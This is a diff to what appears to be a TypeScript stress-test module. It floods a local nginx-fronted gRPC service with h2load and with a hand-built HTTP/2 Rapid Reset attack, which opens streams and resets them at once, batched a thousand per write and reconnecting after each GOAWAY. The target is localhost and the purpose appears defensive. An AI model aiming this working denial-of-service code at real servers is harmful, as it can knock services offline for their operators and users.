@@ -32,12 +32,12 @@ export interface FloodPlan {
 export interface FloodReport {
   /** Each h2load run's summary lines ("requests: ...", "status codes: ..."). */
   h2load: Record<string, string[]>;
-  /** Streams opened and reset at once. */
-  resets: number;
+  /** Streams opened and reset at once that the server took, and the connections they came on. */
+  resets: { taken: number; connections: number };
 }
 
-/** h2load's summary: the lines that count requests and statuses. */
-async function h2load(args: string[]): Promise<string[]> {
+/** One h2load run: its summary lines, or none when `deadline` stopped it first. */
+async function h2loadRun(args: string[], deadline: number): Promise<string[]> {
   const child = spawn("h2load", args, { stdio: ["ignore", "pipe", "pipe"] });
   let output = "";
   child.stdout.on("data", (chunk: Buffer) => {
@@ -46,12 +46,36 @@ async function h2load(args: string[]): Promise<string[]> {
   child.stderr.on("data", (chunk: Buffer) => {
     output += chunk.toString();
   });
-  const [code] = (await once(child, "exit").catch((error: Error) => {
-    throw new Error(`h2load could not run (${error.message}): apt-get install nghttp2-client`);
-  })) as [number | null];
-  const lines = output.split("\n").filter((line) => /^(requests|status codes|finished in|traffic):/.test(line));
+  const timer = setTimeout(() => child.kill("SIGKILL"), Math.max(0, deadline - Date.now()));
+  const [code, signal] = (await once(child, "exit")
+    .catch((error: Error) => {
+      throw new Error(`h2load could not run (${error.message}): apt-get install nghttp2-client`);
+    })
+    .finally(() => clearTimeout(timer))) as [number | null, NodeJS.Signals | null];
+  if (signal === "SIGKILL") return [];
+  const lines = output.split("\n").filter((line) => /^(requests|status codes):/.test(line));
   if (lines.length === 0) throw new Error(`h2load exited (${code}) without a summary: ${output.trim()}`);
   return lines;
+}
+
+/**
+ * h2load again and again until `deadline`. h2load does not reconnect after the server's GOAWAY
+ * (nginx sends one after keepalive_requests calls), and a run given a duration sits idle once its
+ * connections are closed; a run given a count ends then, and the next one reconnects, as an
+ * attacker would. Returns how many runs ended and the requests they counted.
+ */
+async function h2loadUntil(args: string[], deadline: number): Promise<string[]> {
+  let runs = 0;
+  let requests = 0;
+  let statuses = "";
+  while (Date.now() < deadline) {
+    const lines = await h2loadRun(args, deadline);
+    if (lines.length === 0) break;
+    runs += 1;
+    requests += Number(/^requests: .*?(\d+) done/m.exec(lines.join("\n"))?.[1] ?? 0);
+    statuses = lines.find((line) => line.startsWith("status codes:")) ?? statuses;
+  }
+  return [`${runs} runs ended, ${requests} requests in them`, `last run's ${statuses}`];
 }
 
 /** An HPACK string literal, not Huffman coded; the ones here are short enough for the 7-bit length. */
@@ -94,20 +118,53 @@ const END_HEADERS = 0x4;
 const ACK = 0x1;
 const CANCEL = Buffer.from([0, 0, 0, 8]);
 
+const RESETS_PER_WRITE = 1000;
+const GOAWAY = 0x7;
+
+/** Calls `onGoaway` with the last stream id of the first GOAWAY among the frames `socket` receives. */
+function watchGoaway(socket: Socket, onGoaway: (lastStreamId: number) => void): void {
+  let pending = Buffer.alloc(0);
+  const listener = (chunk: Buffer) => {
+    pending = Buffer.concat([pending, chunk]);
+    while (pending.length >= 9) {
+      const length = pending.readUIntBE(0, 3);
+      if (pending[3] === GOAWAY && pending.length >= 13) {
+        socket.off("data", listener);
+        onGoaway(pending.readUInt32BE(9) & 0x7fffffff);
+        return;
+      }
+      if (pending.length < 9 + length) return;
+      pending = pending.subarray(9 + length);
+    }
+  };
+  socket.on("data", listener);
+}
+
 /**
- * One connection after another, each opening streams 100 at a time and resetting each at once,
- * until `deadline`: returns how many streams it opened. A connection the server closes is replaced.
+ * One connection after another until `deadline`, each opening streams 100 at a time and resetting
+ * each at once; at the server's GOAWAY (nginx: after keepalive_requests streams) the next connection
+ * starts, as an attacker's would. The frames are encoded once and only their stream ids rewritten,
+ * so the tool takes little of the machine it shares with the stack. Returns the streams the server
+ * took (by its GOAWAYs' last stream ids) and the connections made.
  */
-async function rapidReset(port: number, deadline: number): Promise<number> {
-  const block = callHeaderBlock(`127.0.0.1:${port}`);
-  let opened = 0;
+async function rapidReset(port: number, deadline: number): Promise<{ taken: number; connections: number }> {
+  const headers = frame(HEADERS, END_HEADERS, 0, callHeaderBlock(`127.0.0.1:${port}`));
+  const reset = frame(RST_STREAM, 0, 0, CANCEL);
+  const pair = headers.length + reset.length;
+  const template = Buffer.concat(Array.from({ length: RESETS_PER_WRITE }, () => [headers, reset]).flat());
+  let taken = 0;
+  let connections = 0;
   while (Date.now() < deadline) {
     const socket: Socket = connect({ host: "127.0.0.1", port });
+    connections += 1;
     socket.on("error", () => undefined);
-    socket.resume();
-    let closed = false;
+    let done = false;
     socket.once("close", () => {
-      closed = true;
+      done = true;
+    });
+    watchGoaway(socket, (lastStreamId) => {
+      taken += (lastStreamId + 1) / 2;
+      done = true;
     });
     await once(socket, "connect").catch(() => undefined);
     // The server's SETTINGS are acknowledged ahead: it sends one, at the start.
@@ -115,21 +172,24 @@ async function rapidReset(port: number, deadline: number): Promise<number> {
       Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0)), frame(SETTINGS, ACK, 0, Buffer.alloc(0))]),
     );
     let streamId = 1;
-    while (!closed && Date.now() < deadline && streamId < 2 ** 30) {
-      const batch: Buffer[] = [];
-      for (let i = 0; i < 100; i += 1, streamId += 2) {
-        batch.push(frame(HEADERS, END_HEADERS, streamId, block), frame(RST_STREAM, 0, streamId, CANCEL));
+    while (!done && Date.now() < deadline && streamId < 2 ** 30) {
+      // A fresh copy each time: write() may still hold the last one.
+      const batch = Buffer.from(template);
+      for (let i = 0; i < RESETS_PER_WRITE; i += 1, streamId += 2) {
+        batch.writeUInt32BE(streamId, i * pair + 5);
+        batch.writeUInt32BE(streamId, i * pair + headers.length + 5);
       }
-      opened += 100;
-      // once() rejects on the socket's error (EPIPE when the server has closed it): the loop's end.
-      if (!socket.write(Buffer.concat(batch)))
+      if (!socket.write(batch))
         await Promise.race([once(socket, "drain"), once(socket, "close")]).catch(() => undefined);
-      await new Promise((resolve) => setImmediate(resolve));
+      else await new Promise((resolve) => setImmediate(resolve));
     }
     socket.destroy();
   }
-  return opened;
+  return { taken, connections };
 }
+
+/** h2load's connections and a call count past what nginx lets one connection carry. */
+const calls = (connections: number) => ["-c", String(connections), "-n", String(connections * 1_000_000)];
 
 /** Runs the whole flood for `plan.seconds`; resolves when every part has stopped. */
 export async function grpcFlood(plan: FloodPlan): Promise<FloodReport> {
@@ -138,11 +198,12 @@ export async function grpcFlood(plan: FloodPlan): Promise<FloodReport> {
     const body = join(dir, "undecodable.bin");
     await writeFile(body, UNDECODABLE);
     const url = `http://127.0.0.1:${plan.port}${CALCULATE_SUM}`;
-    const common = ["-t", "1", "-D", String(plan.seconds), "-d", body, "-H", "content-type: application/grpc"];
+    // As many calls as the connections can carry: each run ends when nginx has closed them all.
+    const common = ["-t", "1", "-d", body, "-H", "content-type: application/grpc"];
     const deadline = Date.now() + plan.seconds * 1000;
     const [streams, headers, resets] = await Promise.all([
-      h2load([...common, "-c", String(plan.connections), "-m", String(plan.streamsPerConnection), url]),
-      h2load([...common, "-c", "4", "-m", "100", ...HEADERS_AT_LIMIT.flatMap((h) => ["-H", h]), url]),
+      h2loadUntil([...common, ...calls(plan.connections), "-m", String(plan.streamsPerConnection), url], deadline),
+      h2loadUntil([...common, ...calls(4), "-m", "100", ...HEADERS_AT_LIMIT.flatMap((h) => ["-H", h]), url], deadline),
       Promise.all(Array.from({ length: plan.resetConnections }, () => rapidReset(plan.port, deadline))),
     ]);
     return {
@@ -150,7 +211,10 @@ export async function grpcFlood(plan: FloodPlan): Promise<FloodReport> {
         [`${plan.connections} connections x ${plan.streamsPerConnection} streams, undecodable`]: streams,
         "4 connections x 100 streams, headers at the limit": headers,
       },
-      resets: resets.reduce((a, b) => a + b, 0),
+      resets: {
+        taken: resets.reduce((sum, one) => sum + one.taken, 0),
+        connections: resets.reduce((sum, one) => sum + one.connections, 0),
+      },
     };
   } finally {
     await rm(dir, { recursive: true, force: true });
